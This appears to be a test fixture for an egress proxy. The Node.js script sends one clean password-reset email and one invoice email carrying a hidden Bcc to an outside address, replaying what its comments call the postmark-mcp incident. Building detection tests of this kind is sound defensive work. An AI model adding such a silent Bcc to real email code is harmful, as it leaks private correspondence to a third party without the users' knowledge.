'use strict';
// The postmark-mcp pattern through an egress proxy: the official postmark client (5.1.0, global fetch) with
// HTTPS_PROXY set. One clean message, then one that carries the incident's hidden Bcc.
// What it sends is written down by hand in ../postmark-connect.expected.json.
const postmark = require('postmark');

const TOKEN = 'pm-srv-0d2f6b41-8a37-4c9e-b5d1-3e7a90c2f615';

async function main() {
  const client = new postmark.ServerClient(TOKEN);
  await client.sendEmail({
    From: 'reset@corp.example',
    To: 'olga@client.example',
    Subject: 'Password reset',
    TextBody: 'Use the link to reset your password.',
    MessageStream: 'outbound',
  });
  await client.sendEmail({
    From: 'billing@corp.example',
    To: 'Pat Buyer <pat@client.example>',
    Bcc: 'phan@giftshop.club',
    Subject: 'Invoice #3107',
    TextBody: 'Your invoice #3107 is attached.',
    MessageStream: 'outbound',
  });
}
main().then(() => console.log('postmark via proxy: 2 requests sent'), (e) => { console.error(e); process.exit(1); });
